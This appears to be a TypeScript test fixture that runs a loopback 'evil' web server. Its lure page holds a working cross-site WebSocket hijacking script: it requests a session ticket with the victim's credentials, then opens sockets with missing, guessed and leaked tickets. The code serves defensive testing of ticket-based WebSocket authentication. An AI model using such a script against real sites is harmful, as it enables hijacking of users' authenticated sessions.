// A tiny "attacker" web server on another loopback port. Its page, loaded in the victim's
// browser, tries to use the victim's session against the sample: it POSTs /ws-ticket with
// credentials and opens WebSockets to /ws (or another path: the Socket.IO sample's Engine.IO
// endpoint) with no ticket, a guessed one and a leaked real one, then publishes what it got in
// `window.__attack`.
import { createServer, type Server } from 'node:http';

/** What the evil page observed (its own view: it can only see what the browser lets it). */
export interface AttackReport {
  readonly ticketRequest:
    | { readonly readable: true; readonly status: number; readonly body: string }
    | { readonly readable: false; readonly error: string };
  readonly sockets: readonly {
    readonly label: string;
    readonly opened: boolean;
    readonly messages: readonly string[];
    readonly closeCode: number | null;
  }[];
}

// Plain browser JavaScript, inline on purpose: the attacker's page has no CSP.
const EVIL_SCRIPT = `
const params = new URLSearchParams(location.hash.slice(1));
const target = params.get('target');
const leaked = params.get('leaked');
const path = params.get('path') || '/ws';
const guessed = 'A'.repeat(43);

async function stealTicket() {
  try {
    const response = await fetch('http://' + target + '/ws-ticket', { method: 'POST', credentials: 'include' });
    return { readable: true, status: response.status, body: await response.text() };
  } catch (error) {
    return { readable: false, error: String(error && error.name) };
  }
}

function hijack(label, url, protocols) {
  return new Promise((resolve) => {
    const result = { label, opened: false, messages: [], closeCode: null };
    let socket;
    try {
      socket = new WebSocket(url, protocols);
    } catch (error) {
      resolve(result);
      return;
    }
    socket.onopen = () => {
      result.opened = true;
      socket.send(JSON.stringify({ type: 'whoami' }));
    };
    socket.onmessage = (event) => result.messages.push(String(event.data));
    socket.onclose = (event) => {
      result.closeCode = event.code;
      resolve(result);
    };
    setTimeout(() => resolve(result), 5000);
  });
}

window.__attack = (async () => {
  const ticketRequest = await stealTicket();
  const ws = 'ws://' + target + path;
  const query = path.includes('?') ? '&' : '?';
  const sockets = [
    await hijack('no ticket', ws),
    await hijack('guessed ticket in the query', ws + query + 'ticket=' + guessed),
    await hijack('guessed ticket as subprotocol', ws, ['wsgate', 'wsgate.ticket.' + guessed]),
  ];
  if (leaked) {
    sockets.push(await hijack('leaked real ticket in the query', ws + query + 'ticket=' + encodeURIComponent(leaked)));
    sockets.push(await hijack('leaked real ticket as subprotocol', ws, ['wsgate', 'wsgate.ticket.' + leaked]));
  }
  return { ticketRequest, sockets };
})();
`;

const EVIL_PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>Totally harmless</title></head>
<body><h1>Win a prize!</h1><script>${EVIL_SCRIPT}</script></body></html>`;

export class EvilServer {
  private constructor(
    private readonly server: Server,
    readonly port: number,
  ) {}

  static async start(): Promise<EvilServer> {
    const server = createServer((request, response) => {
      if (request.method === 'GET' && request.url === '/') {
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(EVIL_PAGE);
      } else {
        response.writeHead(404).end();
      }
    });
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject);
      server.listen(0, '127.0.0.1', resolve);
    });
    const address = server.address();
    if (address === null || typeof address === 'string') throw new TypeError('no port');
    return new EvilServer(server, address.port);
  }

  /**
   * The evil page's URL on `host` (`127.0.0.1` or `localhost`), attacking `target`
   * (`127.0.0.1:PORT`) at WebSocket `path` (with its own query, if any).
   */
  pageUrl(host: string, target: string, leakedTicket?: string, path = '/ws'): string {
    const fragment = new URLSearchParams({ target, path });
    if (leakedTicket !== undefined) fragment.set('leaked', leakedTicket);
    // The fragment never leaves the browser: the evil server never sees the leaked ticket.
    return `http://${host}:${this.port}/#${fragment.toString()}`;
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}
